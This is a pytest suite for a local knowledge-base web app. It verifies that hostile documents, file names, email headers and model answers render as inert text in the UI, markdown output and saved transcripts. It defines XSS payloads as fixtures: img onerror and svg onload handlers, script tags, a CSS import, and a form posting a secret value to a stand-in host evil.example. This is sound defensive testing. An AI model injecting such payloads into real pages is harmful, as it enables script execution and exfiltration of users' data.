"""Nothing that others wrote does anything on the page: not in documents, names, titles, questions or answers."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

import pytest
from ollama_server import Reply
from rendering import FORMS, Drawn
from running import running
from served_house import answered, serve_house

import kb
from api.backend.local import LocalBackend
from api.http.app import create_app
from api.web.live_answer import LiveAnswer
from api.web.markdown import TAGS, render_markdown
from api.web.transcript import write_transcript
from kb.principal import OWNER
from kb.settings import Settings
from kb.types import Answer, Citation, Sources, Token

TAGGED = "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>"
STYLED = "<style>@import 'http://evil.example/s.css'; body { display: none }</style>"
FORM = "<form action='http://evil.example/'><input name=q value=secret><button>Send</button></form>"
NAME = "'\"><img src=x onerror=document.title=1> & <b>b.md"
TEXT = f"# {TAGGED}\n\nThe gate code is 4711. {TAGGED} {STYLED} {FORM}\n\n| a | {TAGGED} |\n|---|---|\n| 1 | {FORM} |\n"
ASKED = "What is the gate code?"
SPACE = "'\"><img src=x onerror=document.title=1>"
ROLE = "<img src=x onerror=document.title=1>"
MAIL = f"""From: "{TAGGED}" <gate@example.com>
To: {STYLED} <us@example.com>
Subject: {TAGGED}
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain

The mail says that the shed code is 0815.
--b
Content-Type: application/zip
Content-Disposition: attachment; filename="{ROLE}.zip"

nothing
--b--
"""
WRITTEN = f"""<html><head><title>{TAGGED.replace("<", "&lt;")}</title><meta name="author" content="{FORM}"></head>
<body><h1>Cellar {TAGGED.replace("<", "&lt;")}</h1><p>The cellar code is 2342.</p>
<img src="http://evil.example/p.png" alt="<svg onload=document.title=1>"></body></html>"""


@pytest.fixture(scope="module")
def trap(tmp_path_factory, ollama) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hostile") / "docs"
    folder.mkdir()
    (folder / NAME.replace("/", "_")).write_text(TEXT, encoding="utf-8")
    (folder / "page.html").write_text(f"<title>{TAGGED}</title><p>Gate codes are secret.</p>{FORM}", encoding="utf-8")
    (folder / "drawing.svg").write_text("<svg onload=alert(1)><text>Gate</text></svg>", encoding="utf-8")
    with serve_house(tmp_path_factory.mktemp("served"), ollama, folder) as address:
        yield address


@pytest.fixture
def trapped(visit, trap) -> Iterator:
    with visit(at=trap) as page:
        page.on("dialog", lambda dialog: pytest.fail("a dialog was opened"))
        yield page
        assert page.title() == "kb"
        inside = "#turns, #viewer .paper, #documents"
        for tag in ("script", "style", "iframe", "object", "form[action]", "#turns img", "#viewer .paper img"):
            assert page.locator(f":is({inside}) {tag}").count() == 0, tag


def test_a_hostile_document_is_words_in_answers_cards_viewer_and_lists(trapped, ollama, draw):
    ollama.replies.append(Reply([f"The gate code is 4711 [1].\n\n{TAGGED}\n\n{STYLED}\n\n{FORM}\n"]))
    answered(trapped, ASKED)
    trapped.click(".answer .mark >> nth=0")
    trapped.wait_for_selector("#viewer .text")
    assert "onerror" in trapped.inner_text("#viewer .text")
    draw(trapped, "hostile")
    trapped.hover(".answer .mark >> nth=0")
    trapped.keyboard.press("Escape")
    trapped.click("[data-place=documents]")
    trapped.wait_for_selector("#documents tbody tr")
    assert NAME.replace("/", "_") in trapped.locator("td.name").all_inner_texts()
    trapped.fill(".mentions-form input", "onerror")
    trapped.press(".mentions-form input", "Enter")
    trapped.wait_for_selector(".mentions .place")
    trapped.click(".row-tools [aria-label^=Statements] >> nth=0")
    trapped.wait_for_selector(".inside ol")
    draw(trapped, "hostile-documents")


def test_headers_titles_authors_alt_texts_and_names_of_spaces_and_roles_are_words(visit, ollama, tmp_path, draw):
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "shed.eml").write_text(MAIL, encoding="utf-8")
    (folder / "cellar.html").write_text(WRITTEN, encoding="utf-8")
    (folder / f"{TAGGED.replace('/', '_')}.pdf").write_bytes(b"%PDF-1.7")
    settings = Settings(
        home=tmp_path / "home",
        embed="ollama:all-minilm",
        chat="ollama:tiny-think",
        ollama_host=ollama.url,
        roles={ROLE: "Answer."},
    )
    with kb.open(settings=settings) as base:
        list(LocalBackend(base, OWNER.enter(SPACE)).ingest([folder]))
        with (
            running(create_app(base)) as client,
            visit(f"/?space={quote(SPACE)}", at=str(client.base_url).rstrip("/")) as page,
        ):
            assert page.get_attribute("body", "data-space") == SPACE
            page.select_option("#role", ROLE)
            for question, code in (("What is the shed code?", "0815"), ("What is the cellar code?", "2342")):
                ollama.replies.append(f"The code is {code} [1].")
                answered(page, question)
                page.click(".turn:last-child .answer .mark")
                page.wait_for_selector(f"#viewer mark:has-text('{code}')")
                page.wait_for_selector("#viewer .standing span")
                draw(page, f"hostile-{code}")
            page.click("[data-place=documents]")
            page.wait_for_selector("#documents .failures li")
            assert "onerror" in page.inner_text("#documents .failures li")
            page.fill("#documents .table > input", "shed")
            page.wait_for_selector("td.problem:has-text('onerror')")
            draw(page, "hostile-names")
            page.click("[data-place=state]")
            page.wait_for_selector("#state .check.fact")
            assert SPACE in page.inner_text("#state .checks")
            assert page.title() == "kb"
            assert (
                page.locator("img:not(#viewer img), svg, iframe, object, style, form[action], [onerror]").count() == 0
            )


def test_every_form_of_hostile_markdown_is_inert_in_an_answer(trapped, ollama):
    ollama.replies.append(Reply(["\n\n".join(FORMS.values())]))
    answered(trapped, ASKED)
    links = trapped.locator(".answer a")
    for at in range(links.count()):
        assert links.nth(at).get_attribute("href").startswith(("http://evil.example/", "mailto:"))
        assert links.nth(at).get_attribute("rel") == "noopener noreferrer nofollow"
        assert links.nth(at).get_attribute("target") == "_blank"


@pytest.mark.parametrize("form", FORMS)
def test_no_form_becomes_more_than_a_link_that_shows_its_target(form):
    html = render_markdown(FORMS[form])
    for tag in (
        "<img",
        "<script",
        "<svg",
        "<form",
        "<iframe",
        "javascript:alert(1)'",
        'href="javascript',
        'href="data',
    ):
        assert tag not in html
    if form == "a link":
        assert html == (
            '<p><a href="http://evil.example/c" title="http://evil.example/c" target="_blank" '
            'rel="noopener noreferrer nofollow">press here</a> <span class="target">(http://evil.example/c)</span></p>\n'
        )


@pytest.mark.parametrize("form", FORMS)
def test_what_is_copied_or_saved_loads_and_links_nothing(form):
    citation = Citation(1, "d", f"{FORMS[form]}.md", 2, FORMS[form], 0, 9, True)
    answer = Answer(FORMS[form], f"So it is: {FORMS[form]} [1]", False, (citation,), (), "m")
    written = write_transcript(answer)
    for text in (f"# {written['question']}", written["answer"]):
        drawn = Drawn(text)
        assert [each for each in drawn.foreign if each.startswith("<") or "evil" in each] == []


def test_a_conversation_that_was_not_answered_is_saved_as_code(page):
    save = "async (kept) => (await import('/web/static/x/conversations.js')).asMarkdown(kept)"
    turns = [{"question": "![`p](http://evil.example/p.png)\n# x", "problem": {"message": "<img src=x> broke."}}]
    saved = page.evaluate(save, {"title": "", "turns": turns})
    asked = "`!['p](http://evil.example/p.png) # x`"
    assert saved == f"# {asked}\n\n## {asked}\n\n`<img src=x> broke.`\n"
    assert Drawn(saved).foreign == []


def test_marks_are_buttons_only_as_far_as_there_are_sources():
    html = render_markdown("Yes [1][2]. `[1]` [3] (not found in the sources) [1](http://evil.example)", sources=2)
    assert html.count("<button") == 3
    assert '<button type="button" class="mark" data-n="2">2</button>' in html
    assert "[3]" in html
    assert "<code>[1]</code>" in html
    assert '<span class="unfounded">not found in the sources</span>' in html
    assert "<a" not in html


def test_what_a_document_says_word_for_word_is_no_markdown():
    live = LiveAnswer()
    frames = [*live.draw(Sources(())), *live.draw(Token("- "))]
    frames += live.draw(Token("**bold** <b>x</b> [1] ![p](http://evil.example/p.png)", quoted=True))
    frames += live.draw(Answer("q", "", False, (), (), "builtin"))
    html = "".join(next(frame for frame in reversed(frames) if frame.name == "blocks").data["html"])
    assert "**bold** &lt;b&gt;x&lt;/b&gt; [1] <code>![p](http://evil.example/p.png)</code>" in html
    assert "<strong>" not in html
    assert "<a" not in html


def test_blocks_that_are_finished_are_sent_once_and_make_up_the_whole():
    live = LiveAnswer()
    shown: list[str] = []
    text = "One.\n\n- a\n- b\n\n```\nx\n\ny\n```\n\n| a |\n|---|\n| 1 |\n\nEnd."
    for event in (Sources(()), *(Token(letter) for letter in text), Answer("q", text, False, (), (), "m")):
        for frame in live.draw(event):
            if frame.name == "blocks":
                shown[frame.data["at"] :] = frame.data["html"]
    assert "".join(shown) == render_markdown(text)
    assert {"script", "style", "img", "svg", "form", "iframe"}.isdisjoint(TAGS)


def test_drawing_takes_no_longer_for_each_piece_of_a_long_answer():
    live = LiveAnswer()
    sent = sum(len(live.draw(Token(f"word{n} "))) for n in range(3000))
    assert sent < 300  # and not 3,000: a block that grows is drawn less often than its pieces come
